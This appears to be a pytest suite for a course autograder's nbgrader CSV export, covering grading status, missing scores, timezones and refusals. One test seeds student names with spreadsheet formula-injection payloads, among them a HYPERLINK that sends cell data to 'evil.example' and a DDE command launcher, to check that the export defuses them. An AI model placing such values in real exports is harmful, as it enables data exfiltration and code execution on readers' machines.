"""``nbgrader export``: no score is no zero, not yet is not final, and nothing is executed."""

from __future__ import annotations

import csv
import json
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy

from autograder.course.folders import Folders
from autograder.nbgrader_bridge import export as exports
from autograder.spreadsheet import cell
from tests.nbgrader_bridge.gradebooks import give, open_gradebook

Export = Callable[..., dict[str, dict[str, str]]]

THEIRS = [
    "assignment", "duedate", "timestamp", "student_id", "last_name", "first_name", "email",
    "raw_score", "late_submission_penalty", "score", "max_score",
]  # fmt: skip


@pytest.fixture
def export(nbgrader: Callable[..., int]) -> Export:
    """Run ``nbgrader export`` and read the file: student → row."""

    def exported(root: Path, *arguments: str) -> dict[str, dict[str, str]]:
        assert nbgrader("export", "--to", "grades.csv", *arguments, cwd=root) == 0
        with (root / "grades.csv").open(newline="", encoding="utf-8") as file:
            return {row["student_id"]: row for row in csv.DictReader(file)}

    return exported


def scores(row: dict[str, str]) -> list[str]:
    return [row[column] for column in ("raw_score", "late_submission_penalty", "score")]


def test_a_score_is_told_from_none_and_final_from_not_yet(
    graded: Path, export: Export, hand_in: Callable[..., None]
) -> None:
    with open_gradebook(graded) as gradebook:
        gradebook.add_student("absent")
    hand_in(graded / "work/submitted", "s05-emil", name="not-graded")
    (graded / "work/submitted/linked").symlink_to("s02-bo")
    rows = export(graded)
    assert {student: (row["status"], *scores(row)) for student, row in rows.items()} == {
        "s02-bo": ("waiting for a person", "14.0", "0.0", "14.0"),
        "s03-chidi": ("graded", "2.0", "0.0", "2.0"),
        "s14-noor": ("needs attention", "", "", ""),
        "absent": ("not handed in", "", "", ""),
        "not-graded": ("not graded yet", "", "", ""),
        "linked": ("needs attention", "", "", ""),
    }
    assert rows["s02-bo"]["note"] == "not marked yet: minima-differ"
    assert rows["s14-noor"]["note"].startswith("not a notebook: the file is not JSON")
    assert (
        rows["linked"]["note"]
        == "the folder linked is a link, not a folder of submissions; put the folder there"
    )
    assert rows["not-graded"]["note"] == "grade it: course grade risk"
    assert {row["max_score"] for row in rows.values()} == {"17.0"}


def test_the_terminal_says_how_many_are_final_and_what_to_do_next(
    graded: Path, export: Export, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    export(graded)
    assert capsys.readouterr().out.splitlines() == [
        "grades.csv:",
        "risk: 1 final, 1 waiting for a person, 1 without a score "
        "(1 need attention, 0 not graded yet, 0 not handed in)",
        "To mark written answers: jupyter lab, Nbgrader > Formgrader > Manual Grading",
        "Column note says why a score is missing; then: course grade ASSIGNMENT",
    ]


def test_a_marked_answer_is_final_and_0_is_a_score(graded: Path, export: Export) -> None:
    give(graded, "s02-bo", "minima-differ", 0.0)
    assert export(graded)["s02-bo"]["status"] == "graded"
    assert scores(export(graded)["s02-bo"]) == ["14.0", "0.0", "14.0"]


def test_a_mark_for_an_answer_that_changed_waits_for_another_look(
    graded: Path, export: Export, hand_in: Callable[..., None], invoke: Callable[..., Any]
) -> None:
    give(graded, "s03-chidi", "check-risks", 5.0)
    assert export(graded)["s03-chidi"]["status"] == "graded"
    hand_in(graded / "work/submitted", "s02-bo", name="s03-chidi")
    invoke("grade", "risk", "--quiet", cwd=graded)
    row = export(graded)["s03-chidi"]
    assert row["status"] == "waiting for a person"
    assert row["note"] == "not marked yet: check-risks, minima-differ"


def test_a_person_can_give_a_score_where_the_grader_has_none(graded: Path, export: Export) -> None:
    told = []
    for name in ("check-risks", "check-sample_risk", "minima-differ"):
        told.append(export(graded)["s14-noor"]["status"])
        give(graded, "s14-noor", name, 1.0)
    assert told == ["needs attention", "needs attention", "waiting for a person"]
    assert export(graded)["s14-noor"]["status"] == "graded"
    assert scores(export(graded)["s14-noor"]) == ["3.0", "0.0", "3.0"]


def test_times_are_told_by_the_courses_clocks(
    released_root: Path,
    export: Export,
    hand_in: Callable[..., None],
    invoke: Callable[..., Any],
) -> None:
    config = released_root / "course.yml"
    text = config.read_text().replace("timezone: UTC", "timezone: Europe/Berlin")
    config.write_text(f"{text}    due: 2026-10-24 18:00\n")
    hand_in(released_root / "work/submitted", "s02-bo", "s03-chidi")
    (released_root / "times.csv").write_text("student,submitted\ns02-bo,2026-10-25 12:00\n")
    invoke("collect", "risk", "--times", "times.csv", cwd=released_root)
    invoke("grade", "risk", "--quiet", cwd=released_root)
    rows = export(released_root)
    assert rows["s02-bo"]["duedate"] == "2026-10-24T18:00:00+02:00"
    assert rows["s02-bo"]["timestamp"] == "2026-10-25T12:00:00+01:00"


# -- what scripts and spreadsheets read -----------------------------------------


def test_the_columns_of_nbgraders_own_export_come_first_with_its_numbers(
    graded: Path, export: Export, nbgrader: Callable[..., int]
) -> None:
    ours = export(graded)
    own = "--exporter=nbgrader.plugins.CsvExportPlugin"
    assert nbgrader("export", own, "--to", "theirs.csv", cwd=graded) == 0
    with (graded / "theirs.csv").open(newline="") as file:
        reader = csv.DictReader(file)
        theirs = {row["student_id"]: row for row in reader}
        assert reader.fieldnames == THEIRS
    assert list(ours["s02-bo"])[: len(THEIRS)] == THEIRS
    assert list(ours) == list(theirs)
    for student in ("s02-bo", "s03-chidi"):
        assert {column: ours[student][column] for column in THEIRS} == theirs[student]


NAMES = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1:A9)"),
    ("O'Neil, Jr.", 'Ann "Annie"', "a,b@example.org"),
    ("نور", "🙂 王", "\u202e=1+1"),
    ("\t=1", " -2", ";=3"),
]


def test_no_name_breaks_a_row_and_none_is_executed(
    graded: Path, export: Export, nbgrader: Callable[..., int]
) -> None:
    people = {f"p{number}": names for number, names in enumerate(NAMES)}
    people["=1+1"] = ("-", "=cmd|' /C calc'!A0", "x")
    with open_gradebook(graded) as gradebook:
        for student, (last, first, mail) in people.items():
            gradebook.add_student(student, last_name=last, first_name=first, email=mail)
    rows = export(graded)
    for student, names in people.items():
        row = rows[str(cell(student))]
        assert [row["last_name"], row["first_name"], row["email"]] == [cell(n) for n in names]
        assert row["status"] == "not handed in"
    with (graded / "grades.csv").open(newline="", encoding="utf-8") as file:
        for value in (value for row in csv.reader(file) for value in row):
            assert not value.lstrip("\t \u202e;").startswith(("=", "+", "-", "@"))


def test_students_and_assignments_can_be_chosen_as_in_nbgraders_own(
    graded: Path, export: Export
) -> None:
    assert list(export(graded, "--student", "s02-bo")) == ["s02-bo"]
    assert list(export(graded, "--assignment", "risk")) == ["s02-bo", "s03-chidi", "s14-noor"]
    assert list(export(graded, "--assignment", "other")) == []


# -- refusals -------------------------------------------------------------------


def test_a_file_that_cannot_be_written_is_told_in_one_line_and_the_old_one_stays(
    graded: Path,
    nbgrader: Callable[..., int],
    export: Export,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    export(graded)
    before = (graded / "grades.csv").read_bytes()
    (graded / "folder").mkdir()
    (graded / "folder/in-it").touch()
    capsys.readouterr()
    assert nbgrader("export", "--to", "folder", cwd=graded) == 2
    told = [line for line in capsys.readouterr().err.splitlines() if "ExportApp" not in line]
    assert told == [f"course: {graded}/folder cannot be written: Is a directory"]

    def broken(rows: Any) -> str:
        raise KeyboardInterrupt

    monkeypatch.setattr(exports, "_csv", broken)
    with pytest.raises(KeyboardInterrupt):
        nbgrader("export", "--to", "grades.csv", cwd=graded)
    assert (graded / "grades.csv").read_bytes() == before


def test_a_gradebook_that_lost_its_submissions_is_not_exported_as_a_class_of_nobody(
    graded: Path, nbgrader: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    gradebook = Folders(graded).gradebook
    gradebook.unlink()
    capsys.readouterr()
    assert nbgrader("export", cwd=graded) == 2
    assert (
        f"course: {gradebook} lacks 3 submissions that were graded; bring them back, with the "
        "marks given by hand: course grade risk"
    ) in capsys.readouterr().err
    assert not (graded / "grades.csv").exists()


def test_the_gradebook_of_another_course_is_refused_and_left_alone(
    graded: Path, nbgrader: Callable[..., int], capsys: pytest.CaptureFixture[str]
) -> None:
    with open_gradebook(graded) as gradebook:
        change = "UPDATE course SET id = 'algebra' WHERE id = 'optimization'"
        gradebook.db.execute(sqlalchemy.text(change))
        gradebook.db.commit()
    path = Folders(graded).gradebook
    before = path.read_bytes()
    capsys.readouterr()
    assert nbgrader("export", cwd=graded) == 2
    [line] = capsys.readouterr().err.splitlines()
    assert line.startswith(f"course: {path} belongs to another course: algebra, not optimization;")
    assert path.read_bytes() == before
    assert not (graded / "grades.csv").exists()


def test_a_submission_whose_report_is_gone_still_has_no_score(graded: Path, export: Export) -> None:
    shutil.rmtree(graded / "work/reports")
    row = export(graded)["s14-noor"]
    assert row["status"] == "needs attention"
    assert row["note"] == "no score: check-risks, check-sample_risk"
    assert json.dumps(scores(row)) == '["", "", ""]'
